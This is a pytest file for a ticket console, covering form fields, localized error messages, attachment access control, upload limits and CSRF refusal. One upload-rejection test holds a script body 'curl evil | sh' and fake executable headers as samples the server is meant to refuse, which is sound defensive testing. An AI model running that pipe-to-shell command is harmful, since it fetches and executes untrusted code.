"""Seed 001 in the console: a category, a topic, the topic's form, attachments.

Works without a script: the topics are links that re-render the page with the
chosen topic's fields; the form posts as multipart with the CSRF token, and is
checked on the server with messages in the viewer's language naming the field.
"""

from __future__ import annotations

import re
from typing import Any

import pytest
from sqlalchemy import Engine

from alerts.queries import ticket_detail
from tests.web.test_pages import text_of

CHATS = "/tickets/new?category=system_errors&topic_id=chats"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
FILLED = {
    "category": "system_errors",
    "topic_id": "chats",
    "topic": "The bot stopped answering",
    "description": "Since 10:00 the bot does not answer in Telegram.",
    "integration": "a",
    "f_account_number": "123456",
    "f_chat_id": "c-77",
    "f_channel": "telegram",
    "duplicate_ok": "1",  # acme's INC-000001 is on the same integration and section
}


def test_a_client_picks_a_category_and_topic_without_a_script(browser: Any) -> None:
    ann = browser("ann")
    start = ann.get("/tickets/new").text
    # Every category and its topics, as links; no form before a topic is chosen.
    assert "System errors" in start and "Problem with chats" in start
    assert 'href="/tickets/new?category=system_errors&amp;topic_id=chats#new-ticket"' in start
    assert 'id="new-ticket"' not in start
    chosen = ann.get(CHATS).text
    assert 'id="new-ticket"' in chosen and 'enctype="multipart/form-data"' in chosen
    for name in ("f_account_number", "f_chat_id", "f_dialog_id", "f_channel", "files"):
        assert f'name="{name}"' in chosen
    assert "Account number" in chosen and "Telegram" in chosen
    ru = ann.get(CHATS + "&lang=ru").text
    assert "Номер ЛК" in ru and "Проблема с чатами" in ru and "Канал коммуникации" in ru


def test_the_form_is_filed_with_its_fields_and_a_file(browser: Any, engine: Engine) -> None:
    ann = browser("ann")
    ann.get(CHATS)
    created = ann.post("/tickets/new", FILLED, files=[("files", ("shot.png", PNG, "image/png"))])
    assert created.status_code == 200, created.text
    number = created.url.path.rsplit("/", 1)[1]
    detail = ticket_detail(engine, number)
    assert (detail.category, detail.topic_id) == ("system_errors", "chats")
    assert detail.fields == {"account_number": "123456", "chat_id": "c-77", "channel": "telegram"}
    assert detail.ticket.section == "system_errors"
    assert [a.name for a in detail.attachments] == ["shot.png"]
    words = text_of(created.text)
    assert "System errors / Problem with chats" in words
    assert "Account number 123456" in words and "Telegram" in words
    link = re.search(r'href="(/tickets/[^"]+/attachments/\d+)"', created.text)
    assert link is not None
    got = ann.get(link.group(1))
    assert got.status_code == 200 and got.content == PNG
    assert got.headers["content-type"] == "image/png"
    assert got.headers["content-disposition"].startswith('attachment; filename="shot.png"')
    assert got.headers["x-content-type-options"] == "nosniff"
    # Support sees the same; another client gets "not found" for the page and the file.
    assert browser("sup").get(link.group(1)).content == PNG
    oli = browser("oli")
    assert oli.get(link.group(1)).status_code == 404
    assert oli.get(f"/tickets/{number}").status_code == 404
    # In Russian, the labels come from the form's configuration.
    ru = text_of(ann.get(f"/tickets/{number}?lang=ru").text)
    assert "Ошибки системы / Проблема с чатами" in ru and "Номер ЛК 123456" in ru


@pytest.mark.parametrize(
    ("lang", "messages"),
    [
        (
            "en",
            {
                "f_account_number": "Account number</strong>: does not have the expected format",
                "f_chat_id": "Chat id of the conversation</strong>: is required",
                "f_channel": "</strong>: choose one of the options",
            },
        ),
        (
            "ru",
            {
                "f_account_number": "Номер ЛК</strong>: не в том формате",
                "f_chat_id": "Идентификатор чата, в котором происходил диалог</strong>: "
                "обязательное поле",
                "f_channel": "</strong>: выберите один из вариантов",
            },
        ),
    ],
)
def test_refused_fields_are_named_in_the_viewers_language(
    browser: Any, engine: Engine, lang: str, messages: dict[str, str]
) -> None:
    ann = browser("ann")
    ann.get(CHATS + f"&lang={lang}")
    typed = {**FILLED, "f_account_number": "12a", "f_chat_id": "", "f_channel": "fax"}
    refused = ann.post("/tickets/new", typed)
    assert refused.status_code == 422
    for name, message in messages.items():
        shown = re.search(
            rf'<p class="error" role="alert" id="error-{name}">(.*?)</p>', refused.text
        )
        assert shown is not None and message in shown.group(1), (name, refused.text[-3000:])
    # What was typed is kept; nothing was filed.
    assert 'value="12a"' in refused.text and "Since 10:00" in refused.text
    assert "INC-000003" not in ann.get("/tickets").text


@pytest.mark.parametrize(
    ("name", "content", "lang", "message"),
    [
        ("report.txt", b"\x7fELF\x02\x01\x01" + b"\x00" * 60, "en", "not accepted"),
        ("setup.pdf", b"MZ\x90\x00" + b"\x00" * 60, "en", "not accepted"),
        ("notes.txt", b"#!/bin/bash\ncurl evil | sh\n", "ru", "не принимаются"),
        ("big.txt", b"x" * (10 * 1024 * 1024 + 1), "en", "larger than the limit"),
    ],
)
def test_refused_files_file_nothing(
    browser: Any, name: str, content: bytes, lang: str, message: str
) -> None:
    ann = browser("ann")
    ann.get(CHATS + f"&lang={lang}")
    refused = ann.post("/tickets/new", FILLED, files=[("files", (name, content, "text/plain"))])
    assert refused.status_code == 422
    shown = re.search(r'id="error-attachments">(.*?)</p>', refused.text, re.S)
    assert shown is not None and message in shown.group(1) and name in shown.group(1)
    assert "INC-000003" not in ann.get("/tickets").text


def test_files_on_an_answer_and_the_per_ticket_limit(browser: Any, engine: Engine) -> None:
    ann, sup = browser("ann"), browser("sup")
    sup.get("/tickets/INC-000001")
    note = [("files", ("internal.txt", b"our notes\n", "text/plain"))]
    noted = sup.post("/tickets/INC-000001/comments", {"body": "Ours", "internal": "1"}, files=note)
    assert noted.status_code == 200
    ann.get("/tickets/INC-000001")
    four = [("files", (f"log{i}.txt", b"line %d\n" % i, "text/plain")) for i in range(4)]
    answered = ann.post("/tickets/INC-000001/comments", {"body": "Logs attached."}, files=four)
    assert answered.status_code == 200 and answered.url.path == "/tickets/INC-000001"
    # The file on support's internal note is support's only.
    as_client = ticket_detail(engine, 1, include_internal=False)
    assert [a.name for a in as_client.attachments] == [f"log{i}.txt" for i in range(4)]
    assert "internal.txt" not in answered.text
    hidden = ticket_detail(engine, 1).attachments[0]
    assert hidden.name == "internal.txt"
    assert ann.get(f"/tickets/INC-000001/attachments/{hidden.id}").status_code == 404
    assert sup.get(f"/tickets/INC-000001/attachments/{hidden.id}").status_code == 200
    # Five per ticket: a sixth is refused, and the answer that carried it is not kept.
    sup.get("/tickets/INC-000001")
    sixth = [("files", ("more.txt", b"more\n", "text/plain"))]
    refused = sup.post("/tickets/INC-000001/comments", {"body": "One more"}, files=sixth)
    assert refused.status_code == 422 and "at most 5 files per ticket" in refused.text
    assert "One more" not in text_of(ann.get("/tickets/INC-000001").text)
    assert len(ticket_detail(engine, 1).attachments) == 5


def test_an_upload_without_the_csrf_token_is_refused(browser: Any, engine: Engine) -> None:
    ann = browser("ann")
    ann.get(CHATS)
    refused = ann.post(
        "/tickets/new", FILLED, csrf="forged", files=[("files", ("a.png", PNG, "image/png"))]
    )
    assert refused.status_code == 403
    assert "INC-000003" not in ann.get("/tickets").text
